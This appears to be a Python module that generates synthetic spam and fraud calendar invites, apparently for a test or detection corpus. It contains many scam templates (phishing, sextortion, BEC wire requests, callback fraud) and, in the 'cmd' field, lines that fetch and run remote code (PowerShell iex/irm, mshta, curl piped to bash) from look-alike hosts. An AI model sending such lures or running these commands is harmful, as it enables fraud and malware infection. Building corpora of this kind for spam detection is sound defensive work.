"""Spam / fraud scenario writers (one function per category) and English text banks."""
import datetime as dt

from .common import W, F, wire, tool_cfg, slug, isfree, D, make_fwd
from .world import person, LANG

# ============================================================================ English text banks
EN = {}

EN["retail-sale-wave"] = [
    dict(brand="Ray-Ban", s="{brand} Sunglasses 90% OFF - Clearance Sale Today Only",
         d="{brand} official outlet: all sunglasses ${price}. Free shipping, 30-day returns.\nShop now -> {url}"),
    dict(brand="UGG", s="{brand} Black Friday Early Access - Up To 85% Off",
         d="Dear customer, our warehouse clearance starts now. Classic Mini and Tasman from ${price}. Limited stock, while supplies last:\n{url}"),
    dict(brand="Michael Kors", s="\u2764 {brand} Handbags Flash Sale - Final Hours \u2764",
         d="Hot sale! {brand} bags & wallets 80% off today only.\n{url}\nReply STOP to unsubscribe"),
    dict(brand="Pandora", s="{brand} Charms - Buy 2 Get 3 Free",
         d="Mother's Day special. Every order ships within 24h. Use code LOVE{n} at checkout:\n{url}"),
    dict(brand="Stanley", s="{brand} Quencher 40oz only ${price} - warehouse sale",
         d="We have {n} units left from an overstock shipment. Choose your colour before they are gone: {url}"),
    dict(brand="Oakley", s="VIP coupon inside", d="", hide="loc"),
    dict(brand="Le Creuset", s="{brand} cookware outlet -75% | free delivery",
         d="Cast iron casseroles from ${price}. Offer ends Sunday.", hide="url"),
]

EN["prize-survey-lure"] = [
    dict(brand="Walmart", s="Congratulations! You've been selected for a ${amount} {brand} Gift Card",
         d="Dear {brand} shopper,\nYou have been chosen to take part in our 30-second customer survey. Complete it today and claim your ${amount} gift card.\n{url}\nOffer expires {date}."),
    dict(brand="Costco", s="{brand} anniversary giveaway - confirm shipping for your prize",
         d="Your entry was drawn! Pay only the ${fee} shipping fee to receive your {prize}.\nConfirm here: {url}"),
    dict(brand="Amazon", s="Your {brand} loyalty points expire tonight",
         d="You have {n} unused points worth ${amount}. Redeem them for a reward before midnight: {url}"),
    dict(brand="Home Depot", s="Survey reward pending (ref {code})",
         d="Thank you for shopping with {brand}. Your reward is pending. Answer 5 quick questions to release it.\n{url}"),
    dict(brand="Kohl's", s="We owe you! A free {prize} for being a valued customer", d="{url}"),
    dict(brand="T-Mobile", s="Last reminder: claim your {prize}", d="See the event notes for details.", hide="xalt"),
]

EN["crypto-investment"] = [
    dict(brand="Bitvora", s="Your Bitcoin balance {btcamt} BTC is ready for withdrawal",
         d="Your account at {brand} has reached the withdrawal threshold. Confirm your wallet within 24 hours or the funds will be returned to the liquidity pool:\n{url}"),
    dict(brand="AlphaQuant", s="Private webinar: how I turn $250 into $3,400 a week with AI trading",
         d="Seats limited to 100. Join our analysts live - the {brand} platform does the work for you.\nRegister: {url}", webinar=True),
    dict(brand="Tesla", s="{brand} x SpaceX: 5,000 BTC giveaway - live now",
         d="To celebrate the launch we are giving back to the community. Send any amount between 0.1 and 20 BTC to the event address and receive double back instantly.\nEvent address: {btc}\nLive stream: {url}"),
    dict(brand="StakeVault", s="USDT staking payout pending - action required",
         d="Dear investor,\nyour 30-day staking cycle is complete. Payout: {amount} USDT.\nTo release the payout please pay the network gas fee via {url}"),
    dict(brand="gold", s="coffee chat \u2615",
         d="Hi {rfirst}, it was nice talking yesterday. As promised, this is the app my uncle uses for gold contracts, he says this week is a good window. Add me on WhatsApp {wa} and I will show you how to open the account, it's easy."),
    dict(brand="ChainTrace", s="Recover lost crypto - free consultation",
         d="Lost funds to a fake exchange or investment platform? Our certified blockchain investigators recovered $4.2M for victims last quarter. Book your free call: {url}"),
    dict(brand="Quantum AI", s="{brand}: your account has been approved",
         d="Congratulations {rfirst}! Your {brand} account is approved. A personal account manager will call you today to activate automated trading. Minimum deposit EUR 250.\nLog in: {url}"),
]

EN["dating-sextortion"] = [
    dict(s="Hi handsome \U0001F618 are you free tonight?",
         d="I'm Anna, 26, new in your area. I saw your profile and want to meet. My private photos are here: {url}"),
    dict(s="Private video - {rfirst}", sext=True,
         d="I know about your secret. Months ago I installed software on your device and recorded you through the camera while you were on adult sites. Transfer {usd} USD in Bitcoin to {btc} within 48 hours or the video goes to all your contacts and colleagues. The timer started when this event was delivered. Do not reply, this address is not monitored."),
    dict(s="You have 3 new messages from Jessica",
         d="Jessica (29) sent you a private message and 2 photos. Log in to read them: {url}"),
    dict(s="re: tonight", d="hey, my phone broke, write me here instead \U0001F609 {url}"),
    dict(s="Security alert for {rcpt}", sext=True,
         d="Hello. Your password is {pwd} - I know it and much more. I have recordings of you and a list of all your contacts. Pay {usd} USD in BTC: {btc}\nYou have 2 days. After payment everything is deleted."),
]

EN["fee-scam"] = [
    dict(brand="USPS", s="{brand}: your package is on hold - redelivery fee $1.99",
         d="We attempted to deliver your parcel {trk} but the address was incomplete. Schedule redelivery and pay the $1.99 fee here:\n{url}"),
    dict(brand="E-ZPass", s="{brand} Notice: unpaid toll balance ${toll}",
         d="Our records show an unpaid toll on your account. Pay by {date} to avoid a $50.00 late fee per violation:\n{url}"),
    dict(brand="HMRC", s="{brand}: you are eligible for a tax refund of \u00a3{refund}",
         d="After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of \u00a3{refund}. Please submit the claim so we can process it within 3 working days:\n{url}"),
    dict(brand="Traffic Court", s="Notice of traffic violation - pay within 48 hours",
         d="A vehicle registered to you was recorded exceeding the speed limit. Fine: ${fine}. Review the photo evidence and pay online: {url}"),
    dict(brand="DHL", s="{brand} Express: customs duty payment required",
         d="Shipment {trk} is held at customs. Outstanding duty: EUR {fee}. Pay now to release the shipment: {url}"),
]

EN["credential-phish"] = [
    dict(brand="Microsoft 365", s="Password expiry notice for {rcpt}",
         d="Your {brand} password expires today. To keep using your current password, confirm below. Failure to do so will lock your mailbox.\n\nKEEP SAME PASSWORD: {url}\n\nIT Service Desk"),
    dict(brand="DocuSign", s="Please DocuSign: {company} Salary Adjustment Q{q}.pdf",
         d="{sender} sent you a document to review and sign.\n\nREVIEW DOCUMENT\n{url}\n\nThis message was sent to you by {sender} who is using the {brand} Electronic Signature Service."),
    dict(brand="PayPal", s="{brand}: unusual sign-in activity",
         d="We noticed a sign-in to your account from a new device (Lagos, NG). If this wasn't you, secure your account within 24 hours: {url}"),
    dict(brand="Chase", s="{brand}: your online banking access is temporarily restricted",
         d="For your protection we limited access to your account after several unsuccessful login attempts. Verify your identity to restore access: {url}"),
    dict(brand="Adobe", s="{brand} Acrobat: {sender} shared \"Remittance Advice.pdf\"",
         d="{sender} has shared a file with you.\nRemittance Advice.pdf (214 KB)\nOpen in {brand} Acrobat: {url}"),
    dict(brand="Dropbox", s="Dropbox Transfer: 3 files (12.4 MB) waiting", d="You have files waiting for you.", hide="attach"),
]

EN["callback-scam"] = [
    dict(brand="Geek Squad", s="{brand} Auto-Renewal Confirmation #GS{n}",
         d="Thank you for renewing your {brand} Total Tech Protection for 3 years.\nAmount charged: ${amt}\nPayment method: card on file\nIf you did not authorise this renewal, call our billing desk within 24 hours: {phone}"),
    dict(brand="Norton", s="{brand} 360 Deluxe - Invoice {code}",
         d="Your subscription has been renewed successfully.\nProduct: {brand} 360 Deluxe (5 devices)\nTotal: ${amt}\nTo cancel and request a refund call {phone} (Mon-Sun, 24h)."),
    dict(brand="PayPal", s="You sent a payment of ${amt} to Crypto Hub LLC",
         d="Transaction ID {code}\nIf you don't recognise this transaction, contact {brand} Support immediately at {phone}. Do not reply to this email."),
    dict(brand="McAfee", s="{brand} Total Protection subscription renewed",
         d="Order {code}\nRenewal period: 1 year\nAmount: ${amt}\nNeed help or want a refund? Speak to an agent: {phone}"),
    dict(brand="Amazon", s="Order #114-{n}-{n2} placed: Apple iPhone 15 Pro Max 256GB",
         d="Order total: ${amt}\nDelivery estimate: 2 days\nIf you did not place this order please call Amazon order cancellation: {phone}"),
    dict(brand="Coinbase", s="{brand}: withdrawal of 0.28 BTC requested",
         d="A withdrawal request was submitted from a new device. If this was not you, call {brand} Security now: {phone}\nReference {code}"),
    dict(brand="Microsoft", s="Windows Defender license expired - call support",
         d="Your computer protection license has expired and your device may be at risk. Call a certified Microsoft technician: {phone}"),
]

EN["fake-update-lure"] = [
    dict(brand="Teams", s="Q{q} planning - Teams client update required",
         d="You can't join this meeting with your current Teams version. Install the update before joining:\n{url}\n(TeamsUpdate_x64.msi, 2.1 MB)"),
    dict(brand="Zoom", s="Zoom Workplace: mandatory update before your meeting",
         d="Your Zoom client (5.13) is no longer supported. Download the latest version to join \"{topic}\":\n{url}"),
    dict(brand="meeting", s="Verify meeting access", clickfix=True,
         d="To protect this meeting from bots please confirm you are human:\n1. Press Windows + R\n2. Paste the verification code: {cmd}\n3. Press Enter\nThe meeting will open automatically."),
    dict(brand="Meet", s="Google Meet: audio driver missing for {topic}",
         d="We detected that your browser cannot access the microphone. Install the Meet audio plug-in and rejoin:\n{url}"),
    dict(brand="Adobe Reader", s="Agenda - {topic}", d="The agenda is attached as a protected PDF. If it does not open, install the viewer plug-in first: {url}"),
    dict(brand="Webex", s="Webex: new client certificate required", clickfix=True,
         d="Our meeting servers renewed their certificates. Mac users: open Terminal and run\n{cmd}\nthen rejoin the meeting."),
]

EN["bec"] = [
    dict(k="gift", s="Quick task",
         d="Hi {rfirst}, are you available? I need you to get some gift cards for a client appreciation today. I'm in back-to-back meetings so email is best. Let me know asap.\n{ceo}"),
    dict(k="supplier", s="Payment details update - {supplier}",
         d="Dear Accounts Payable,\nPlease be informed that our bank details have changed due to an ongoing audit. All pending and future invoices should be paid to:\nBank: {bank}\nIBAN: {iban}\nBIC: {bic}\nKindly confirm once updated.\nRegards,\n{name}\nFinance, {supplier}"),
    dict(k="payroll", s="Direct deposit change",
         d="Hello, I changed my bank and would like my salary to go to the new account from this pay period. What details do you need from me?\nThanks,\n{emp}"),
    dict(k="wire", s="Confidential - project {codename}",
         d="{rfirst}, we are finalizing a confidential acquisition. I need you to process a wire of EUR {amt} today. Our external counsel, {lawyer}, will contact you with the details. Please don't discuss this with anyone until the announcement.\n{ceo}"),
    dict(k="supplier", s="Invoice {inv} - remittance", d="Hi, please find our updated remittance details in the notes. The old account is under review, kindly use the new one for invoice {inv} (EUR {amt}).\n{name}", hide="xalt"),
    dict(k="gift", s="Are you at your desk?", d="Need a favour, reply when you see this.\n\nSent from my iPhone"),
    dict(k="w2", s="Request", d="{rfirst}, I need the W-2s of all staff for a quick review before the meeting with the auditors. Please send them as PDF today.\n{ceo}"),
]

EN["advance-fee"] = [
    dict(s="Next of kin claim - {deceased}",
         d="I am Barrister {name}, personal attorney to the late {deceased}, who died with his family in a car accident. He left a deposit of US${amt} million with a bank here and no next of kin could be found. I wish to present you as beneficiary; the proceeds will be shared 50/50. Reply to my private email {priv} for details."),
    dict(s="UN compensation payment approved",
         d="Your name is on the list of scam victims approved for compensation of US$1,500,000 by the United Nations Compensation Commission. Contact the paying officer, {name}, with your full name, address and phone number: {priv}"),
    dict(s="Donation", d="I am Mrs. {name}, a widow suffering from cancer. I have decided to donate EUR {amt},000 to you for charity work. Please contact me for more information: {priv}"),
    dict(s="Consignment box awaiting delivery",
         d="A diplomatic consignment box registered in your name is held at the airport. Delivery fee: US$ 350. Contact the diplomat {name} on {priv} to arrange release."),
    dict(s="Winning notification ref {code}",
         d="Your email address won EUR {amt},000 in our international e-mail draw. To claim, send your name, age, phone and a copy of your ID to the claims agent: {priv}"),
]

EN["task-job-scam"] = [
    dict(s="Remote part-time position - {company}",
         d="Hi! Our HR team found your resume online. We offer flexible remote work: 60-90 minutes per day, $200-$800 per day, paid daily. No experience needed. Contact our HR assistant on WhatsApp: {wa}"),
    dict(s="Interview invitation - Data Entry Assistant",
         d="Congratulations, you were shortlisted. The interview will be conducted on Telegram with our hiring manager {tg}. Please add him and mention code {code}."),
    dict(s="Earn while you scroll - app optimisation tasks",
         d="Complete 40 simple tasks a day rating apps and earn commissions up to 3,000 USDT a month. Your mentor is waiting: {url}"),
    dict(s="Hello {rfirst}, is this still your number?",
         d="I'm Emily from {company} recruitment. Your profile matched a remote position (flexible hours, weekly pay). Can we talk on WhatsApp {wa}?"),
]

EN["doc-share-compromised"] = [
    dict(s="{company} - shared file: Project Proposal.pdf",
         d="Hi,\n{sender} has shared a file with you via OneDrive.\n\nProject_Proposal_{yr}.pdf\n\nOpen: {url}\n\nKind regards,\n{sender}\n{company}"),
    dict(s="RFQ #{n} - please review before our call",
         d="Good morning,\nPlease review the attached request for quotation before our call. Access the documents here: {url}\nBest regards,\n{sender}"),
    dict(s="Signed contract - {company}", d="Hello, the signed contract is ready for your records. It's in the link below, password is {pin}.\n{url}\n{sender}"),
    dict(s="Remittance advice {inv}", d="Payment has been processed. Please see the remittance advice: {url}\n\nThanks,\n{sender}\nAccounts, {company}"),
    dict(s="Updated price list {yr}", d="Dear partner, please find our updated price list for {yr}. Let's discuss in the meeting.", hide="attach"),
]

EN["nagging-payload"] = [
    dict(s="Cheap meds online - up to 80% off", d="No prescription needed. Discreet worldwide shipping. Order: {url}", nag="daily"),
    dict(s="\U0001F3B0 Your EUR 500 bonus expires!", d="Claim your 500 EUR welcome bonus + 200 free spins before it expires: {url}", nag="alarms"),
    dict(s="Your Apple ID is locked", d="Your Apple ID has been locked for security reasons. Unlock now: {url}", nag="far"),
    dict(s="BTC signal alert", d="New signal: BUY BTC/USDT - join the VIP group for entries and targets: {tg}", nag="minutely"),
    dict(s="Renew your domain {rdom}", d="Your domain registration expires. Renew now to avoid losing your website and e-mail: {url}", nag="past"),
    dict(s="Keto Burn - lose 10kg in 30 days", d="Doctors hate this trick. Order your trial bottle: {url}", nag="weekly"),
]

EN["mass-invite"] = [
    dict(s="World Congress on Nursing & Healthcare {yr2} - abstract submission", d="Dear Colleague,\nOn behalf of the organising committee we invite you to submit an abstract and join as speaker at our congress in {city}. Early bird registration ends soon. Submit: {url}\nIf you do not wish to receive further invitations, reply REMOVE."),
    dict(s="Get your website on page 1 of Google", d="Hello,\nI was checking your website and noticed it is not ranking for important keywords. We can bring it to the first page in 30 days. Reply with your phone number for a free audit."),
    dict(s="Join our VIP trading signals channel \U0001F4C8", d="92% win rate. Free access for the first 500 members: {tg}"),
    dict(s="Welcome bonus 200% + 100 free spins", d="Register today and receive a 200% bonus on your first deposit: {url}"),
    dict(s="Wholesale nitrile gloves - factory price", d="Dear Purchasing Manager,\nWe are a manufacturer of medical gloves with FDA/CE. Price USD 1.9/box, MOQ 1x40HQ. WhatsApp: {wa}"),
]


# ============================================================================ helpers
def _alarmset(rng, n):
    out = []
    for i in range(n):
        out.append("-PT%dM" % (i * rng.choice([1, 2, 5, 10]) + 1))
    return out


def common_v(c):
    rng = c.rng
    y = c.arrival.year
    return D(n=rng.randint(12, 980), n2=rng.randint(1000000, 9999999), code=c.code(8), q=(c.arrival.month - 1) // 3 + 1,
             yr=y, yr2=y + 1, date=(c.arrival + dt.timedelta(days=2)).strftime("%d/%m/%Y"), price=rng.choice(["19.99", "24.95", "29.00", "39.99", "14.90"]),
             amount=rng.choice(["50", "100", "250", "500", "750", "1000"]), fee=rng.choice(["1.95", "2.99", "3.49", "4.95", "0.99"]),
             prize=rng.choice(["Dyson V15", "iPhone 16 Pro", "KitchenAid mixer", "Ninja air fryer", "Samsung 65\" TV", "emergency kit", "Apple Watch"]),
             btcamt="%.4f" % rng.uniform(0.12, 1.9), usd=rng.choice(["1200", "1450", "1650", "2000", "950"]),
             btc=c.btc(), wa="+%d %d %d" % (rng.choice([1, 44, 62, 63, 234, 91, 855]), rng.randint(200, 999), rng.randint(1000000, 9999999)),
             tg="@" + rng.choice(["hr_", "mentor_", "coach", "vip_signals_", "recruit_"]) + c.path(6).lower(),
             trk=rng.choice(["9400 1000 0000 %04d %04d %02d" % (rng.randint(0, 9999), rng.randint(0, 9999), rng.randint(0, 99)), "JD0146%012d" % rng.randint(0, 10 ** 12), "RX%09dGB" % rng.randint(0, 10 ** 9)]),
             toll="%.2f" % rng.uniform(3, 12), refund="%.2f" % rng.uniform(180, 690), fine=rng.choice(["75.00", "120.00", "86.50"]),
             amt=rng.choice(["399.99", "299.00", "449.99", "349.95", "599.00", "189.99", "1,249.00"]), pin=rng.randint(1000, 9999),
             inv="INV-%d%04d" % (y % 100, rng.randint(1, 9999)), city=rng.choice(["Rome", "Dubai", "Paris", "Singapore", "London", "Amsterdam"]),
             topic=rng.choice(["Budget review", "Weekly sync", "Vendor onboarding", "Contract discussion", "Q%d planning" % ((c.arrival.month - 1) // 3 + 1)]),
             pwd=rng.choice(["summer2015", "Liverpool1", "qwerty123!", "Sunshine77", "Password1"]),
             deceased=rng.choice(["Mr. Robert Stanton", "Engr. Paul Meier", "Dr. Alan Whitmore"]),
             cmd=rng.choice(['powershell -w h -nop -c "iex(irm https://%s/v)"' % c.look("cdn", ["top", "icu", "cfd", "xyz"]),
                             'mshta https://%s/verify.hta # I am not a robot - ID %d' % (c.look("captcha"), rng.randint(100000, 999999)),
                             'curl -fsSL https://%s/install.sh | bash' % c.look("webex", ["app", "online", "cloud"])]))


def rcpt_attendee(c):
    return {"name": c.rcpt.name_disp, "addr": c.rcpt.addr}


def spam_free_sender(c, client, brandname=None):
    rng = c.rng
    dom = {"google": "gmail.com", "apple": rng.choice(["icloud.com", "icloud.com", "me.com"]),
           "yahoo": rng.choice(["yahoo.com", "yahoo.com", "yahoo.co.uk", "yahoo.fr"]),
           "outlook": rng.choice(["outlook.com", "hotmail.com", "outlook.com"])}.get(client)
    if dom is None:
        dom = rng.choice(LANG.get(c.lang, LANG["en"])[2])
    if brandname is not None and rng.random() < 0.6:
        name = brandname
    else:
        p = c.p()
        name = p.name if rng.random() < 0.6 else ""
    local = c.junk_local() if rng.random() < 0.6 else c.p().local(rng)
    return (name, "%s@%s" % (local, dom))


def hide_payload(m, c, t, url):
    """Move the link out of description into LOCATION / URL / X-ALT-DESC / ATTACH."""
    h = t.get("hide")
    if not h:
        return
    if h == "loc":
        m.set(loc=url)
    elif h == "url":
        m.set(url=url)
    elif h == "xalt":
        m.set(xalt='<html><body><p>%s</p><p><a href="%s">%s</a></p></body></html>' % (
            m.desc.split("\n")[0], url, c.rng.choice(["View details", "Claim now", "Open", "Confirm"])))
    elif h == "attach":
        m.set(attach=[{"url": url, "name": "Document.pdf", "fmttype": "application/pdf"}])


def as_tool(m, c, frm, kind=None, **cfg):
    rng = c.rng
    if kind is None:
        kind = W(rng, [("nodkim", 3), ("pass", 3), ("spoof-soft", 1), ("vps-none", 2), ("spoof", 1)])
    wire(m, c, "tool", frm, kind)
    m.set(tool=tool_cfg(c, True, **cfg), tool_cs=c.cs(0.85 if c.lang != "en" else 0.5))
    if c.lang != "en" and rng.random() < 0.3:
        m.tool["raw8_subject"] = True
        m.tool_cs = "utf-8"
    dom = frm[1].split("@")[1]
    if kind == "pass":
        m.set(smtp_infra="postfix")
    else:
        m.set(smtp_infra="vps")
        if kind in ("spoof", "spoof-soft") and rng.random() < 0.5:
            m.set(env_from="%s@%s" % (c.junk_local(), c.look("mail", ["com", "net", "info"])))
    if rng.random() < 0.3:
        m.set(xmailer=rng.choice(["Microsoft Outlook 16.0", "PHPMailer 6.5.0", "Sendinblue", "MailBee.NET 8.0.4.428",
                                  "Foxmail 7.2.25.228", "Mozilla Thunderbird", "SendBlaster 4.1.9"]))
    return m


def lookalike_wire(m, c, client, dom, p=None, name=None, variant=None):
    """newly registered look-alike domain, fully authenticated"""
    p = p or c.p()
    frm = (name if name is not None else p.name, "%s@%s" % (p.local(c.rng, c.rng.choice(["f.l", "f", "fl"])), dom))
    if client == "tool":
        as_tool(m, c, frm, "pass")
    else:
        wire(m, c, client, frm, "pass", variant)
    m.set(dmarc_override=c.rng.choice(["p=NONE sp=NONE dis=NONE", None, "p=NONE sp=NONE dis=NONE", "p=QUARANTINE sp=QUARANTINE dis=NONE"]) or "")
    return m


def brand_esp(c, brand, dom):
    rng = c.rng
    return {"name": brand, "prodid": rng.choice(["-//%s//Notifications//EN" % brand, "-//%s//Scheduler 2.0//EN" % slug(brand),
                                                 "-//sebbo.net//ical-generator//EN", "-//Booking Engine//EN"]),
            "color": rng.choice(["#333366", "#ffcc00", "#d40511", "#0070ba", "#4d148c"]), "fname": rng.choice(["appointment.ics", "delivery.ics", "event.ics", "reminder.ics"]),
            "attendee": rng.choice(["none", "plain"]), "bfmt": "----=_Part_%d", "msgid_host": dom,
            "cs": c.cs(0.4) if c.lang != "en" else "utf-8"}


def spam_booking(m, c, brand):
    dom = c.look(brand, ["com", "net", "events", "online", "app", "info"])
    m.set(brand=brand_esp(c, brand, dom), note=m.desc, method=c.rng.choice(["REQUEST", "PUBLISH"]))
    lookalike_wire(m, c, "booking", dom, name=brand)
    m.frm = (brand, c.rng.choice(["noreply", "events", "info", "team"]) + "@" + dom)
    return m


def spam_forward(m, c, frm, orig_frm):
    """scammer forwards a (fake) earlier invitation with a mail client"""
    rng = c.rng
    wire(m, c, "mailfwd", frm, "pass", rng.choice(["gmail", "tb", "apple", "olkmail"]) if frm[1].endswith("@gmail.com") is False else "gmail")
    if frm[1].endswith("@gmail.com"):
        m.set(variant="gmail")
    make_fwd(c, m, orig_frm, rng.choice(["outlook", "google"]))
    m.set(note=rng.choice(["Please see below and action today.", "FYI - see the updated details below.", "Forwarding as discussed.", "Please review before the call."]))
    return m


# ============================================================================ categories
def retail(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    v["brand"] = t.get("brand") or rng.choice(["Ray-Ban", "UGG", "Oakley", "Nike", "Pandora", "Coach"])
    url = c.url("shop", v["brand"])
    v["url"] = url
    client = W(rng, [("apple", 3), ("google", 3), ("outlook", 2), ("yahoo", 1), ("tool", 1), ("thunderbird", 1)])
    m = c.msg(offset_days=rng.choice([0, 1, 1, 2, 3]), hour=rng.choice([0, 6, 9, 12, 20]))
    c.text(m, v, {})
    m.set(descr="%s sale spam, link to shop domain" % v["brand"])
    if client == "tool":
        as_tool(m, c, (v["brand"] + " Outlet", "%s@%s" % (c.junk_local(), url.split("/")[2].replace("www.", ""))))
    elif client == "thunderbird":
        wire(m, c, client, spam_free_sender(c, client), "pass")
    else:
        wire(m, c, client, spam_free_sender(c, client, rng.choice([v["brand"], "Sale", "", "Outlet Store"])), "pass")
    if rng.random() < 0.55:
        m.set(extra_attendees=c.many(rng.randint(8, 60), True))
    hide_payload(m, c, t, url)
    if rng.random() < 0.2 and client != "tool":
        m.set(list={"name": rng.choice(["Neighbourhood news", "Alumni list", "Users"]), "addr": "%s@lists.%s" % (rng.choice(["news", "alumni", "users"]), c.orgdom("en")),
                    "host": None, "kind": "mailman", "munge": False})
        m.list["host"] = m.list["addr"].split("@")[1]
        m.set(to_list=[("", m.list["addr"])], attendees=[{"name": "", "addr": m.list["addr"]}])
        m.set(descr=m.descr + ", posted to open mailing list")
    return m


def prize(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    v["brand"] = t.get("brand") or rng.choice(["Walmart", "Costco", "Amazon", "Lidl", "Aldi"])
    kind = rng.choice(["abuse", "look", "abuse"])
    url = c.url(kind, v["brand"])
    v["url"] = url
    client = W(rng, [("google", 3), ("outlook", 2), ("tool", 2), ("booking", 3), ("thunderbird", 1), ("apple", 1)])
    m = c.msg(offset_days=rng.choice([0, 1, 2]))
    c.text(m, v, {})
    m.set(descr="%s prize/survey lure (%s link)" % (v["brand"], "hosted-page" if kind == "abuse" else "look-alike"))
    if client == "tool":
        as_tool(m, c, ("%s Rewards" % v["brand"], "%s@%s" % (rng.choice(["rewards", "survey", "noreply", "promo"]), c.look(v["brand"]))))
    elif client == "booking":
        dom = c.look(v["brand"] + "rewards")
        m.set(brand=brand_esp(c, v["brand"] + " Rewards", dom), note=m.desc)
        lookalike_wire(m, c, "booking", dom, name="%s Customer Rewards" % v["brand"])
        m.frm = (m.frm[0], "rewards@" + dom)
    elif client in ("outlook",) and rng.random() < 0.5:
        # compromised tenant
        dom = c.orgdom("en")
        wire(m, c, "outlook", c.addr(c.p("en"), dom), "pass", "m365")
        m.set(descr=m.descr + " from compromised M365 mailbox")
    else:
        wire(m, c, client, spam_free_sender(c, client, v["brand"] + " Rewards"), "pass")
    hide_payload(m, c, t, url)
    return m


def crypto(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    v["brand"] = t.get("brand") or rng.choice(["Bitvora", "CoinPrime", "TradeNova"])
    url = c.url(rng.choice(["look", "abuse", "look"]), v["brand"])
    v["url"] = url
    webinar = t.get("webinar")
    client = "zoom" if webinar and rng.random() < 0.7 else W(rng, [("google", 2), ("outlook", 2), ("thunderbird", 1), ("nextcloud", 1), ("tool", 1), ("apple", 1), ("zoom", 1), ("booking", 2)])
    m = c.msg()
    c.text(m, v, {})
    m.set(descr="crypto/investment fraud (%s)" % ("webinar" if webinar else client))
    if client == "zoom":
        host = c.p()
        m.set(webinar=True, zoom_sender=host.name if rng.random() < 0.5 else None, dur=90)
        wire(m, c, "zoom", ("Zoom", "no-reply@zoom.us"), "pass", org=(host.name, "%s@gmail.com" % host.local(rng)))
        m.set(descr="investment fraud promoted through a real Zoom webinar registration")
    elif client == "booking":
        spam_booking(m, c, v["brand"])
    elif client == "tool":
        as_tool(m, c, (v["brand"], "support@" + c.look(v["brand"], ["com", "io", "app", "pro"])))
    elif client == "nextcloud":
        dom = c.orgdom()
        wire(m, c, "nextcloud", c.addr(c.p(), dom), "pass")
        m.set(descr=m.descr + " via compromised Nextcloud account")
    elif client == "outlook" and rng.random() < 0.5:
        dom = c.look(v["brand"], ["com", "io", "net"])
        lookalike_wire(m, c, "outlook", dom, variant="m365")
    else:
        wire(m, c, client, spam_free_sender(c, client), "pass")
    hide_payload(m, c, t, url)
    return m


def dating(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    url = c.url(rng.choice(["abuse", "look", "shop"]), rng.choice(["meet", "date", "lovely", "hot", "chat"]))
    v["url"] = url
    client = W(rng, [("google", 3), ("apple", 1), ("yahoo", 2), ("outlook", 1), ("tool", 1), ("thunderbird", 1)])
    m = c.msg(offset_days=rng.choice([0, 0, 1, 2]), hour=rng.choice([19, 20, 21, 22, 23]))
    c.text(m, v, {})
    sext = t.get("sext")
    m.set(descr="sextortion with BTC address" if sext else "dating lure")
    if sext and rng.random() < 0.5:
        # classic: From/To = victim's own address, spoofed
        as_tool(m, c, ("", c.rcpt.addr), rng.choice(["spoof", "spoof-soft"]))
        m.set(env_from="%s@%s" % (c.junk_local(), c.look("mail", ["ru", "xyz", "top", "com"])))
        m.set(descr=m.descr + ", spoofing the recipient's own address")
    elif client == "tool":
        as_tool(m, c, (c.p().first, "%s@%s" % (c.junk_local(), c.look("date", ["xyz", "top", "online"]))))
    else:
        p = c.p()
        wire(m, c, client, (p.first if rng.random() < 0.6 else "", "%s%d@%s" % (p.first_l, rng.randint(1, 99),
                                                                             {"google": "gmail.com", "apple": "icloud.com", "yahoo": "yahoo.com", "outlook": "hotmail.com"}.get(client, rng.choice(LANG.get(c.lang, LANG["en"])[2])))), "pass")
    hide_payload(m, c, t, url)
    return m


def fee(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    v["brand"] = t.get("brand") or "Post"
    url = c.url(rng.choice(["look", "look", "abuse"]), v["brand"], ["com", "top", "info", "xyz", "cfd", "sbs", "icu", "help", "online"])
    v["url"] = url
    client = W(rng, [("booking", 5), ("tool", 2), ("google", 1), ("outlook", 1), ("zimbra", 1)])
    m = c.msg(offset_days=rng.choice([0, 1, 1, 2]))
    c.text(m, v, {})
    m.set(descr="%s fee/fine scam, pay-link" % v["brand"])
    if client == "booking":
        dom = c.look(v["brand"])
        m.set(brand=brand_esp(c, v["brand"], dom), note=m.desc, method=rng.choice(["PUBLISH", "REQUEST"]))
        lookalike_wire(m, c, "booking", dom, name=v["brand"])
        m.frm = (v["brand"], rng.choice(["noreply", "notification", "info", "service"]) + "@" + dom)
    elif client == "tool":
        as_tool(m, c, (v["brand"], "%s@%s" % (rng.choice(["noreply", "notice", "no-reply"]), c.look(v["brand"]))))
    elif client == "zimbra":
        dom = rng.choice(["uni-%s.edu" % c.path(4).lower(), c.orgdom(), "mail.%s.ac.example" % c.path(5).lower()])
        p = c.p()
        wire(m, c, "zimbra", (v["brand"], "%s@%s" % (p.local(rng), dom)), "pass")
        m.set(descr=m.descr + " from compromised Zimbra mailbox")
    elif client == "outlook":
        wire(m, c, "outlook", (v["brand"] + " Service", "%s@%s" % (c.p().local(rng), c.orgdom())), "pass", "m365")
        m.set(descr=m.descr + " from compromised M365 mailbox")
    else:
        wire(m, c, client, spam_free_sender(c, client, v["brand"]), "pass")
    hide_payload(m, c, t, url)
    return m


def phish(c):
    rng = c.rng
    t = c.t
    v = common_v(c)
    v["brand"] = t.get("brand") or "Microsoft 365"
    sp = c.p("en")
    v["sender"] = sp.name
    v["company"] = c.orgname(c.rcpt.domain) if "." in c.rcpt.domain else "HR"
    url = c.url(rng.choice(["look", "abuse", "look"]), v["brand"])
    v["url"] = url
    client = W(rng, [("outlook", 4), ("google", 2), ("tool", 2), ("zimbra", 1), ("sogo", 1), ("nextcloud", 2), ("booking", 2)])
    m = c.msg(offset_days=rng.choice([0, 0, 1]), dur=30)
    c.text(m, v, {})
    m.set(descr="%s credential phishing" % v["brand"])
    if client == "outlook":
        dom = c.look(v["brand"], ["com", "net", "online", "cloud"])
        lookalike_wire(m, c, "outlook", dom, name=rng.choice([v["brand"], "IT Service Desk", sp.name, "Mail Administrator"]), variant=rng.choice(["m365", "m365", "teams"]))
        m.set(descr=m.descr + " from look-alike M365 tenant")
    elif client == "tool":
        as_tool(m, c, (v["brand"], "%s@%s" % (rng.choice(["no-reply", "security", "service", "alerts"]), c.look(v["brand"]))))
    elif client in ("zimbra", "sogo", "nextcloud"):
        dom = rng.choice([c.orgdom(), "mail.%s.edu" % c.path(5).lower()])
